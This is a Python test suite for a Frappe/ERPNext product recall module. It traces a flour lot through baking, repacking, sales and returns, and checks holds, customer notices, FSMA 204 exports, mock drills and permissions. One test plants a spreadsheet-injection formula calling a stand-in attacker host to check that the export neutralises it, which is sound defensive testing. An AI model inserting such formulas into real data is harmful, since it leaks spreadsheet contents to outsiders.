"""Product Recall on real documents: a supplier's flour lot baked into bread, repacked into
boxes, sold to three customers, partly returned, counted and moved."""

import csv
import io
import json

import frappe
from erpnext.stock.doctype.delivery_note.delivery_note import make_sales_return
from frappe.utils import add_to_date, now_datetime, nowdate, nowtime

from traceability_plus.core.fsma import HEADINGS
from traceability_plus.recall.doctype.product_recall.product_recall import (
	close_recall,
	complete_drill,
	make_quarantine_transfer,
	trace_recall,
	update_close_out,
)
from traceability_plus.recall.fsma_export import download_fsma_204
from traceability_plus.recall.notices import draft_missing_notices, send_notifications
from traceability_plus.stock_tracking.holds import hold
from traceability_plus.tests.utils import (
	TEST_COMPANY,
	TEST_SUPPLIER,
	batch_made,
	batch_row,
	bundle_entries,
	make_item,
	make_purchase_receipt,
	make_selling_voucher,
	make_stock_entry,
	make_stock_reconciliation,
	make_supplier,
	make_test_baseline,
	make_user,
	make_warehouse,
	traceability_settings,
	undone_if_refused,
	warehouse,
)
from traceability_plus.traceability_setup.compat import IntegrationTestCase

# Every record these tests use is built here: Frappe need not make ERPNext's test records
# for the doctypes a recall links to (stock entries, work orders, communications...).
IGNORE_TEST_RECORD_DEPENDENCIES = [
	"Address",
	"Batch",
	"Communication",
	"Contact",
	"Customer",
	"Email Template",
	"Serial No",
	"Stock Entry",
	"Supplier",
	"Warehouse",
]
test_ignore = IGNORE_TEST_RECORD_DEPENDENCIES  # the name Frappe v15 reads

FLOUR, YEAST, BREAD, BOX = "_TP Recall Flour", "_TP Recall Yeast", "_TP Recall Bread", "_TP Recall Box"
OVEN = "_TP Recall Oven"
SUGAR = "_TP Recall Sugar"
YEAST_SUPPLIER = "_TP Recall Yeast Supplier"
ALICE, BOB, CAROL = "_TP Recall Alice Grocer", "_TP Recall Bob Baker", "_TP Recall Carol Cafe"
EMAILS = {ALICE: "alice@recall.example.com", BOB: "bob@recall.example.com"}  # Carol has none
USERS = {
	"Stock User": "tp.recall.stockuser@example.com",
	"Quality Manager": "tp.recall.quality@example.com",
	"Stock Manager": "tp.recall.stockmanager@example.com",
}


def make_customer_with_contact(name: str, email: str | None) -> str:
	"""A customer whose primary contact and address ERPNext creates from the customer's fields."""
	if not frappe.db.exists("Customer", name):
		frappe.get_doc(
			{
				"doctype": "Customer",
				"customer_name": name,
				"customer_type": "Individual",
				"customer_group": frappe.db.get_value("Customer Group", {"is_group": 0}),
				"territory": frappe.db.get_value("Territory", {"is_group": 0}),
				"default_currency": "USD",
				"email_id": email,
				"mobile_no": "+1 555 0100" if email else None,
				"address_line1": "1 Market Street",
				"city": "Springfield",
				"country": "United States",
			}
		).insert(ignore_permissions=True)
	return name


def make_outgoing_email_account():
	if not frappe.db.exists("Email Account", {"default_outgoing": 1, "enable_outgoing": 1}):
		frappe.get_doc(
			{
				"doctype": "Email Account",
				"email_account_name": "_TP Recall Outgoing",
				"email_id": "recalls@bakery.example.com",
				"enable_outgoing": 1,
				"default_outgoing": 1,
				"smtp_server": "localhost",
				"no_smtp_authentication": 1,
			}
		).insert(ignore_permissions=True)


def make_recall(*start_lots, recall_type="Recall", submit=False, **fields):
	"""A recall of batches (or of {"serial_no": ...} rows)."""
	recall = frappe.get_doc(
		{
			"doctype": "Product Recall",
			"recall_type": recall_type,
			"company": TEST_COMPANY,
			"severity": None if recall_type == "Mock Recall" else "Class II",
			"reason": "Undeclared sesame in the flour",
			"lots": [lot if isinstance(lot, dict) else {"batch_no": lot} for lot in start_lots],
			**fields,
		}
	).insert()
	if submit:
		recall.submit()
	return recall


def table(recall, fieldname, *columns):
	return [tuple(row.get(column) for column in columns) for row in recall.get(fieldname)]


class TestProductRecall(IntegrationTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		make_test_baseline()
		make_supplier(YEAST_SUPPLIER)
		make_customer_with_contact(ALICE, EMAILS[ALICE])
		make_customer_with_contact(BOB, EMAILS[BOB])
		make_customer_with_contact(CAROL, None)
		for item_code in (FLOUR, YEAST, BREAD, BOX):
			make_item(item_code, has_batch_no=1, create_new_batch=1)
		make_item(OVEN, has_serial_no=1, serial_no_series="TPRO-.#####")
		cls.shop = make_warehouse("Recall Shop")
		cls.quarantine = make_warehouse("Recall Quarantine")
		make_outgoing_email_account()
		for role, email in USERS.items():
			make_user(email, role)

	def setUp(self):
		stores = warehouse()
		self.flour_receipt = make_purchase_receipt(
			[{"item_code": FLOUR, "qty": 100, "tp_supplier_lot": "MILL-77"}]
		)
		self.flour = batch_made(self.flour_receipt, FLOUR)
		self.yeast_receipt = make_purchase_receipt([{"item_code": YEAST, "qty": 10}], supplier=YEAST_SUPPLIER)
		self.yeast = batch_made(self.yeast_receipt, YEAST)
		self.baking = make_stock_entry(
			"Manufacture",
			[
				{**batch_row(FLOUR, self.flour, 60), "s_warehouse": stores},
				{**batch_row(YEAST, self.yeast, 2), "s_warehouse": stores},
				{"item_code": BREAD, "qty": 50, "t_warehouse": stores, "is_finished_item": 1},
			],
		)
		self.bread = batch_made(self.baking, BREAD)
		self.packing = make_stock_entry(
			"Repack",
			[
				{**batch_row(BREAD, self.bread, 20), "s_warehouse": stores},
				{"item_code": BOX, "qty": 4, "t_warehouse": stores, "is_finished_item": 1},
			],
		)
		self.box = batch_made(self.packing, BOX)
		make_stock_entry("Material Issue", [{**batch_row(FLOUR, self.flour, 3), "s_warehouse": stores}])
		self.flour_sale = make_selling_voucher(
			"Delivery Note", [batch_row(FLOUR, self.flour, 5)], customer=BOB
		)
		self.bread_sale_1 = make_selling_voucher(
			"Delivery Note", [batch_row(BREAD, self.bread, 10)], customer=ALICE
		)
		self.bread_sale_2 = make_selling_voucher(
			"Delivery Note", [batch_row(BREAD, self.bread, 15)], customer=BOB
		)
		self.box_sale = make_selling_voucher("Delivery Note", [batch_row(BOX, self.box, 3)], customer=CAROL)
		self.bread_return = self.sales_return(self.bread_sale_1, 2)
		# 50 made - 20 repacked - 25 sold + 2 returned = 7 on the shelf; the count finds 6.
		make_stock_reconciliation([batch_row(BREAD, self.bread, 6)])
		# The last box goes to the shop.
		make_stock_entry(
			"Material Transfer",
			[{**batch_row(BOX, self.box, 1), "s_warehouse": stores, "t_warehouse": self.shop}],
		)

	def sales_return(self, delivery_note, qty):
		sales_return = make_sales_return(delivery_note.name)
		sales_return.items[0].qty = -qty
		# Posted now: the return copies the delivery's posting time, which comes before the
		# setUp's stock count, and ERPNext 15 refuses a batch movement dated before a count.
		sales_return.posting_date, sales_return.posting_time = nowdate(), nowtime()
		sales_return.insert()
		sales_return.submit()
		return sales_return

	# Trace and snapshot ---------------------------------------------------------------------

	def test_snapshot_lists_every_affected_lot_its_stock_customers_and_suppliers(self):
		recall = make_recall(self.flour)
		self.assertEqual(recall.status, "Traced")
		self.assertEqual(
			table(recall, "affected_lots", "batch_no", "level", "on_hand", "accounted_share", "unexplained"),
			[(self.flour, 0, 32, 100, 0), (self.bread, 1, 6, 100, 0), (self.box, 2, 1, 100, 0)],
		)
		bread = recall.affected_lots[1]
		self.assertEqual(
			(bread.received_or_produced, bread.consumed, bread.delivered, bread.returned, bread.adjusted),
			(50, 20, 25, 2, 1),
		)
		self.assertEqual(
			sorted(table(recall, "stock", "batch_no", "warehouse", "qty")),
			sorted([(self.flour, warehouse(), 32), (self.bread, warehouse(), 6), (self.box, self.shop, 1)]),
		)
		self.assertEqual(
			table(recall, "customers", "customer", "qty_shipped", "qty_returned", "vouchers", "email_id"),
			[
				(ALICE, 8, 2, f"{self.bread_sale_1.name}, {self.bread_return.name}", EMAILS[ALICE]),
				(BOB, 20, 0, f"{self.flour_sale.name}, {self.bread_sale_2.name}", EMAILS[BOB]),
				(CAROL, 3, 0, self.box_sale.name, None),
			],
		)
		alice = recall.customers[0]
		contact = frappe.get_value("Customer", ALICE, "customer_primary_contact")
		self.assertEqual((alice.contact, alice.phone), (contact, "+1 555 0100"))
		self.assertEqual(alice.contact_name, frappe.get_value("Contact", contact, "full_name"))
		self.assertIn("1 Market Street, Springfield", alice.address_display)
		self.assertEqual(
			table(recall, "shipments", "customer", "voucher_no", "batch_no", "qty"),
			[
				(ALICE, self.bread_sale_1.name, self.bread, 10),
				(ALICE, self.bread_return.name, self.bread, -2),
				(BOB, self.flour_sale.name, self.flour, 5),
				(BOB, self.bread_sale_2.name, self.bread, 15),
				(CAROL, self.box_sale.name, self.box, 3),
			],
		)
		self.assertEqual(
			table(recall, "suppliers", "supplier", "voucher_no", "batch_no", "supplier_lot", "qty"),
			[(TEST_SUPPLIER, self.flour_receipt.name, self.flour, "MILL-77", 100)],
		)
		self.assertEqual(
			(recall.affected_lot_count, recall.customer_count, recall.supplier_count),
			(3, 3, 1),
		)
		self.assertEqual((recall.qty_shipped, recall.qty_on_hand, recall.accounted_share), (31, 39, 100))
		self.assertGreaterEqual(recall.time_to_trace, 0)

	def test_several_start_lots_are_traced_together(self):
		recall = make_recall(self.yeast, self.box)
		self.assertEqual(
			table(recall, "affected_lots", "batch_no", "level"),
			[(self.box, 0), (self.yeast, 0), (self.bread, 1)],
		)
		self.assertEqual([row.customer for row in recall.customers], [ALICE, BOB, CAROL])
		self.assertEqual(
			{row.supplier for row in recall.suppliers}, {YEAST_SUPPLIER, TEST_SUPPLIER}
		)  # yeast from its supplier; the box back to the flour

	def test_start_lots_are_checked(self):
		for lots in ([{}], [{"batch_no": self.flour, "serial_no": "X"}], [{"batch_no": "_TP no such lot"}]):
			with self.assertRaises(frappe.ValidationError):
				frappe.get_doc(
					{
						"doctype": "Product Recall",
						"company": TEST_COMPANY,
						"severity": "Class I",
						"reason": "x",
						"lots": lots,
					}
				).insert()
		with self.assertRaises(frappe.ValidationError):
			make_recall(self.flour, self.flour)

	def test_trace_in_the_background_keeps_the_snapshot(self):
		recall = make_recall(self.bread)
		self.assertEqual(recall.customer_count, 3)
		make_selling_voucher("Delivery Note", [batch_row(BREAD, self.bread, 1)], customer=CAROL)
		# In tests the job runs at once (frappe.enqueue with now=True).
		trace_recall(recall.name, in_background=True)
		recall.reload()
		self.assertEqual(recall.status, "Traced")
		self.assertEqual(table(recall, "customers", "customer", "qty_shipped")[2], (CAROL, 4))

	def test_serial_numbers_are_recalled_like_batches(self):
		receipt = make_purchase_receipt([{"item_code": OVEN, "qty": 2}])
		sold, kept = sorted(row.serial_no for row in bundle_entries("Purchase Receipt", receipt.name))
		sale = make_selling_voucher(
			"Delivery Note",
			[{"item_code": OVEN, "qty": 1, "serial_no": sold, "use_serial_batch_fields": 1}],
			customer=ALICE,
		)
		recall = make_recall({"serial_no": sold}, {"serial_no": kept}, submit=True)
		self.assertEqual(
			table(recall, "affected_lots", "serial_no", "on_hand", "held_by_this_recall"),
			[(sold, 0, 0), (kept, 1, 1)],
		)
		self.assertEqual(table(recall, "stock", "serial_no", "warehouse", "qty"), [(kept, warehouse(), 1)])
		self.assertEqual(
			table(recall, "shipments", "customer", "voucher_no", "serial_no", "qty"),
			[(ALICE, sale.name, sold, 1)],
		)
		self.assertEqual(frappe.db.get_value("Serial No", kept, "tp_hold_reference_name"), recall.name)
		with traceability_settings(quarantine_warehouse=self.quarantine):
			entry = frappe.get_doc("Stock Entry", make_quarantine_transfer(recall.name))
		self.assertEqual(
			[(row.item_code, row.serial_no, row.qty, row.t_warehouse) for row in entry.items],
			[(OVEN, kept, 1, self.quarantine)],
		)

	# Submit and cancel ----------------------------------------------------------------------

	def test_submit_holds_every_affected_lot_with_stock_and_stops_their_delivery(self):
		recall = make_recall(self.flour, submit=True)
		self.assertEqual(recall.status, "Open")
		for batch_no in (self.flour, self.bread, self.box):
			held = frappe.db.get_value(
				"Batch", batch_no, ["tp_on_hold", "tp_hold_reason", "tp_hold_reference_name"], as_dict=True
			)
			self.assertEqual((held.tp_on_hold, held.tp_hold_reference_name), (1, recall.name))
			self.assertIn("Undeclared sesame", held.tp_hold_reason)
		self.assertEqual((recall.lots_held, recall.held_qty), (3, 39))
		with self.assertRaises(frappe.ValidationError) as refused, undone_if_refused():
			make_selling_voucher(
				"Delivery Note", [batch_row(BOX, self.box, 1, warehouse=self.shop)], set_warehouse=self.shop
			)
		self.assertIn(recall.name, str(refused.exception))

	def test_a_customer_without_email_gets_a_notice_once_one_is_added(self):
		recall = make_recall(self.flour, submit=True)
		# A read-only Stock User may not draft notices; nothing is written.
		frappe.set_user(USERS["Stock User"])
		try:
			with self.assertRaises(frappe.PermissionError):
				draft_missing_notices(recall.name)
		finally:
			frappe.set_user("Administrator")
		self.assertEqual(recall.reload().customers[2].notification_status, "No Email")
		contact = frappe.get_doc(
			{
				"doctype": "Contact",
				"first_name": "Carol",
				"email_ids": [{"email_id": "carol@recall.example.com", "is_primary": 1}],
				"links": [{"link_doctype": "Customer", "link_name": CAROL}],
			}
		).insert(ignore_permissions=True)
		frappe.db.set_value("Customer", CAROL, "customer_primary_contact", contact.name)
		# Carol is the customer without email of the other tests: leave her so.
		self.addCleanup(frappe.delete_doc, "Contact", contact.name, force=True, ignore_permissions=True)
		self.addCleanup(frappe.db.set_value, "Customer", CAROL, "customer_primary_contact", None)

		frappe.set_user(USERS["Quality Manager"])
		try:
			self.assertEqual(draft_missing_notices(recall.name), {"drafted": 1, "still_missing": 0})
		finally:
			frappe.set_user("Administrator")
		carol = recall.reload().customers[2]
		self.assertEqual((carol.notification_status, carol.email_id), ("Draft", "carol@recall.example.com"))
		self.assertEqual(
			frappe.db.get_value("Communication", carol.notification, "recipients"), carol.email_id
		)
		# The others' notices were not drafted twice.
		self.assertEqual(frappe.db.count("Communication", {"reference_name": recall.name}), 3)
		# A plain save still may not change a customer's email: only the action does.
		recall.customers[2].email_id = "mallory@example.com"
		with self.assertRaises(frappe.PermissionError):
			recall.save()

	def test_submit_drafts_one_notification_per_customer_with_an_email(self):
		recall = make_recall(self.flour, submit=True)
		self.assertEqual(
			table(recall, "customers", "customer", "notification_status"),
			[(ALICE, "Draft"), (BOB, "Draft"), (CAROL, "No Email")],
		)
		bob = frappe.get_doc("Communication", recall.customers[1].notification)
		self.assertEqual(
			(bob.recipients, bob.reference_name, bob.sent_or_received), (EMAILS[BOB], recall.name, "Sent")
		)
		for text in (self.flour, self.bread, self.flour_sale.name, "Undeclared sesame", "Stop selling"):
			self.assertIn(text, bob.content)
		bob_contact = frappe.db.get_value(
			"Contact Email", {"email_id": EMAILS[BOB], "parenttype": "Contact"}, "parent"
		)
		# Linked as Frappe links a saved email: the customer, and the contact of the address.
		self.assertEqual(
			{(link.link_doctype, link.link_name) for link in bob.timeline_links},
			{("Customer", BOB), ("Contact", bob_contact)},
		)
		self.assertEqual((bob.status, bob.reference_owner), ("Linked", recall.owner))
		self.assertIsNotNone(bob.communication_date)
		# Written together, still one Communication per customer, each counted on the recall.
		self.assertEqual(frappe.db.count("Communication", {"reference_name": recall.name}), 2)
		noted = json.loads(frappe.db.get_value("Product Recall", recall.name, "_comments") or "[]")
		self.assertEqual({note["name"] for note in noted}, {row.notification for row in recall.customers[:2]})
		self.assertFalse(frappe.db.exists("Email Queue", {"communication": bob.name}))

		self.assertEqual(send_notifications(recall.name), {"sent": 2})
		for row in recall.customers[:2]:
			queued = frappe.get_doc("Email Queue", {"communication": row.notification})
			self.assertEqual([r.recipient for r in queued.recipients], [row.email_id])
			self.assertEqual(queued.reference_name, recall.name)
		recall.reload()
		self.assertEqual(recall.customers[0].notification_status, "Sent")
		self.assertIsNotNone(recall.notifications_sent_on)
		with self.assertRaises(frappe.ValidationError):
			send_notifications(recall.name)  # nothing left to send

	def test_cancel_releases_only_the_holds_this_recall_placed(self):
		hold("Batch", self.bread, "Lab test pending")
		recall = make_recall(self.flour, submit=True)
		self.assertEqual(table(recall, "affected_lots", "held_by_this_recall"), [(1,), (0,), (1,)])
		recall.cancel()
		self.assertEqual(recall.status, "Cancelled")
		self.assertEqual(frappe.db.get_value("Batch", self.flour, "tp_on_hold"), 0)
		self.assertEqual(frappe.db.get_value("Batch", self.box, "tp_on_hold"), 0)
		self.assertEqual(
			frappe.db.get_value("Batch", self.bread, ["tp_on_hold", "tp_hold_reason"]),
			(1, "Lab test pending"),
		)

	def test_quarantine_transfer_moves_the_held_stock(self):
		recall = make_recall(self.flour, submit=True)
		with self.assertRaises(frappe.ValidationError):
			make_quarantine_transfer(recall.name)  # no quarantine warehouse yet
		with traceability_settings(quarantine_warehouse=self.quarantine):
			entry = frappe.get_doc("Stock Entry", make_quarantine_transfer(recall.name))
			self.assertEqual(entry.docstatus, 0)
			self.assertEqual(
				sorted((row.batch_no, row.s_warehouse, row.t_warehouse, row.qty) for row in entry.items),
				sorted(
					[
						(self.flour, warehouse(), self.quarantine, 32),
						(self.bread, warehouse(), self.quarantine, 6),
						(self.box, self.shop, self.quarantine, 1),
					]
				),
			)
			entry.submit()  # held stock may go into quarantine
		self.assertEqual(
			frappe.db.get_value("Product Recall", recall.name, "quarantine_transfer"), entry.name
		)

	# Close-out ------------------------------------------------------------------------------

	def test_close_out_counts_returns_since_the_trace_and_the_effectiveness(self):
		recall = make_recall(self.flour, submit=True)
		self.sales_return(self.bread_sale_2, 4)
		recall.reload()
		recall.customers[2].destroyed_qty = 3  # Carol confirmed her box destroyed
		recall.save()
		recall.customers.pop()
		with self.assertRaises(frappe.ValidationError):
			recall.save()  # the customers are the ones traced
		recall.reload()
		update_close_out(recall.name)
		recall.reload()
		self.assertEqual(table(recall, "customers", "recovered_qty"), [(0,), (4,), (0,)])
		self.assertEqual((recall.recovered_qty, recall.destroyed_qty), (4, 3))
		# (4 recovered + 3 destroyed + 39 held) / (31 shipped + 39 held)
		self.assertAlmostEqual(recall.effectiveness, 65.71)
		with self.assertRaises(frappe.ValidationError):
			close_recall(recall.name, " ")
		close_recall(recall.name, "All customers answered")
		recall.reload()
		self.assertEqual((recall.status, recall.close_note), ("Closed", "All customers answered"))
		self.assertIsNotNone(recall.completed_on)

	def test_a_recall_of_several_units_counts_and_judges_each_unit_apart(self):
		make_item(SUGAR, has_batch_no=1, create_new_batch=1, stock_uom="Kg")
		sugar_receipt = make_purchase_receipt([{"item_code": SUGAR, "qty": 10}])
		sugar = batch_made(sugar_receipt, SUGAR)
		sugar_sale = make_selling_voucher("Delivery Note", [batch_row(SUGAR, sugar, 4)], customer=ALICE)
		make_selling_voucher("Delivery Note", [batch_row(SUGAR, sugar, 1)], customer=CAROL)
		recall = make_recall(sugar, self.box)

		# 5 kg of sugar and 3 boxes shipped are not "8 shipped".
		self.assertEqual(
			table(recall, "quantities", "stock_uom", "qty_shipped", "qty_on_hand"),
			[("Kg", 5, 5), ("Nos", 3, 1)],
		)
		customers = {row.customer: row.shipped_by_unit for row in recall.customers}
		self.assertEqual((customers[ALICE], customers[CAROL]), ("4 Kg", "1 Kg, 3 Nos"))
		# No total of two units is kept: the form hides the totals when there are several.
		recall.reload()
		self.assertEqual((recall.qty_shipped, recall.qty_on_hand), (0, 0))
		self.assertEqual(
			recall.meta.get_field("qty_shipped").depends_on, "eval:(doc.quantities || []).length < 2"
		)

		recall.submit()
		self.assertEqual(table(recall, "quantities", "stock_uom", "held_qty"), [("Kg", 5), ("Nos", 1)])
		self.sales_return(sugar_sale, 4)
		update_close_out(recall.name)
		recall.reload()
		# Sugar: (4 recovered + 5 held) / (5 shipped + 5 held) = 90 %; boxes: 1 / (3 + 1) = 25 %.
		self.assertEqual(table(recall, "quantities", "stock_uom", "effectiveness"), [("Kg", 90), ("Nos", 25)])
		self.assertEqual(recall.effectiveness, 25)  # the least controlled unit, never a blend

		# A destroyed quantity of a customer who got two units cannot be counted in one.
		carol = next(row for row in recall.customers if row.customer == CAROL)
		carol.destroyed_qty = 1
		recall.save()
		with self.assertRaises(frappe.ValidationError) as refused:
			update_close_out(recall.name)
		self.assertIn("several units", str(refused.exception))
		# Nor may a plain save rewrite a unit's figures.
		recall.reload()
		recall.quantities[1].effectiveness = 100
		with self.assertRaises(frappe.PermissionError):
			recall.save()

	# FSMA 204 -------------------------------------------------------------------------------

	def test_fsma_export_has_one_row_per_critical_tracking_event(self):
		recall = make_recall(self.flour)
		download_fsma_204(recall.name, "csv")
		self.assertEqual(frappe.local.response.filename, f"{recall.name} FSMA 204.csv")
		rows = list(csv.reader(io.StringIO(frappe.local.response.filecontent.decode("utf-8-sig"))))
		self.assertEqual(rows[0], list(HEADINGS))
		column = {heading: index for index, heading in enumerate(HEADINGS)}

		def event(row):
			return tuple(
				row[column[heading]]
				for heading in (
					"Critical Tracking Event",
					"Traceability Lot Code",
					"Quantity",
					"Reference Document Number",
				)
			)

		self.assertEqual(
			sorted(event(row) for row in rows[1:]),
			sorted(
				[
					("Receiving", "MILL-77", "100", self.flour_receipt.name),
					("Transformation - Input", "MILL-77", "60", self.baking.name),
					("Transformation - Input", self.yeast, "2", self.baking.name),
					("Transformation - Output", self.bread, "50", self.baking.name),
					("Transformation - Input", self.bread, "20", self.packing.name),
					("Transformation - Output", self.box, "4", self.packing.name),
					("Shipping", "MILL-77", "5", self.flour_sale.name),
					("Shipping", self.bread, "10", self.bread_sale_1.name),
					("Shipping", self.bread, "15", self.bread_sale_2.name),
					("Shipping", self.box, "3", self.box_sale.name),
				]
			),
		)
		receiving = next(row for row in rows[1:] if row[column["Critical Tracking Event"]] == "Receiving")
		self.assertEqual(receiving[column["Product Description"]], FLOUR)
		self.assertEqual(receiving[column["Unit of Measure"]], "Nos")
		self.assertTrue(
			receiving[column["Immediate Previous Source Location Description"]].startswith(TEST_SUPPLIER)
		)
		# The flour's lot code was assigned by the mill.
		self.assertTrue(
			receiving[column["Traceability Lot Code Source Location Description"]].startswith(TEST_SUPPLIER)
		)
		self.assertEqual(receiving[column["Batch or Serial No"]], self.flour)
		shipping = next(
			row for row in rows[1:] if row[column["Reference Document Number"]] == self.bread_sale_1.name
		)
		self.assertEqual(
			shipping[column["Immediate Subsequent Recipient Location Description"]],
			f"{ALICE}, 1 Market Street, Springfield, United States",
		)
		self.assertTrue(shipping[column["Location Description of the Event"]].startswith(TEST_COMPANY))

		from openpyxl import load_workbook

		download_fsma_204(recall.name, "xlsx")
		sheet = load_workbook(io.BytesIO(frappe.local.response.filecontent)).active
		self.assertEqual([cell.value for cell in sheet[1]], list(HEADINGS))
		self.assertEqual(sheet.max_row, len(rows))

	def test_fsma_export_keeps_user_text_that_looks_like_a_formula_as_text(self):
		from openpyxl import load_workbook

		formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
		frappe.db.set_value("Batch", self.flour, "tp_supplier_lot", formula)
		recall = make_recall(self.flour)
		frappe.set_user(make_user("tp.fsma.stock.user@example.com", "Stock User"))
		try:
			download_fsma_204(recall.name, "xlsx")
		finally:
			frappe.set_user("Administrator")
		sheet = load_workbook(io.BytesIO(frappe.local.response.filecontent)).active
		cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
		self.assertFalse([cell.coordinate for cell in cells if cell.data_type == "f"])
		self.assertIn("'" + formula, [cell.value for cell in cells])
		download_fsma_204(recall.name, "csv")
		self.assertIn("'" + formula, frappe.local.response.filecontent.decode("utf-8-sig").replace('""', '"'))

	def test_tracing_again_rewrites_only_what_changed_and_keeps_the_time_to_trace(self):
		started = add_to_date(now_datetime(), minutes=-10)
		drill = make_recall(self.flour, recall_type="Mock Recall", started_on=started)
		first_time_to_trace = drill.time_to_trace
		lot_rows = {row.batch_no: row.name for row in drill.affected_lots}
		customer_rows = {row.customer: row.name for row in drill.customers}
		# After the first trace, Carol gets one more loaf of the bread.
		make_selling_voucher("Delivery Note", [batch_row(BREAD, self.bread, 1)], customer=CAROL)

		trace_recall(drill.name)
		drill.reload()

		self.assertEqual(drill.time_to_trace, first_time_to_trace)
		self.assertEqual(table(drill, "customers", "customer", "qty_shipped")[2], (CAROL, 4))
		# Alice's and Bob's rows did not change: the same rows, kept; Carol's is new.
		names = {row.customer: row.name for row in drill.customers}
		self.assertEqual((names[ALICE], names[BOB]), (customer_rows[ALICE], customer_rows[BOB]))
		self.assertNotEqual(names[CAROL], customer_rows[CAROL])
		lots_now = {row.batch_no: row.name for row in drill.affected_lots}
		self.assertEqual(
			(lots_now[self.flour], lots_now[self.box]), (lot_rows[self.flour], lot_rows[self.box])
		)
		self.assertNotEqual(lots_now[self.bread], lot_rows[self.bread])  # delivered one more

	# Mock recall drills ---------------------------------------------------------------------

	def test_mock_recall_holds_nothing_notifies_no_one_and_records_its_times(self):
		started = add_to_date(now_datetime(), minutes=-10)
		drill = make_recall(self.flour, recall_type="Mock Recall", started_on=started)
		self.assertGreaterEqual(drill.time_to_trace, 600)
		complete_drill(drill.name)
		drill.reload()
		self.assertEqual((drill.docstatus, drill.status), (1, "Completed"))
		self.assertGreaterEqual(drill.time_to_complete, drill.time_to_trace)
		self.assertEqual(frappe.db.get_value("Batch", self.flour, "tp_on_hold"), 0)
		self.assertFalse(frappe.db.exists("Communication", {"reference_name": drill.name}))
		self.assertEqual(drill.lots_held, 0)
		with self.assertRaises(frappe.ValidationError):
			complete_drill(drill.name)

	# Permissions ----------------------------------------------------------------------------

	def test_quality_and_stock_managers_submit_and_cancel_stock_users_only_read(self):
		recall = make_recall(self.box)
		frappe.set_user(USERS["Stock User"])
		try:
			self.assertTrue(frappe.has_permission("Product Recall", "read", recall.name))
			self.assertFalse(frappe.has_permission("Product Recall", "create"))
			with self.assertRaises(frappe.PermissionError):
				frappe.get_doc("Product Recall", recall.name).submit()
			with self.assertRaises(frappe.PermissionError):
				trace_recall(recall.name)
		finally:
			frappe.set_user("Administrator")

		for role in ("Quality Manager", "Stock Manager"):
			frappe.set_user(USERS[role])
			try:
				own = make_recall(self.box, submit=True)
				self.assertEqual(frappe.db.get_value("Batch", self.box, "tp_hold_reference_name"), own.name)
				own.cancel()
				self.assertEqual(frappe.db.get_value("Batch", self.box, "tp_on_hold"), 0)
			finally:
				frappe.set_user("Administrator")
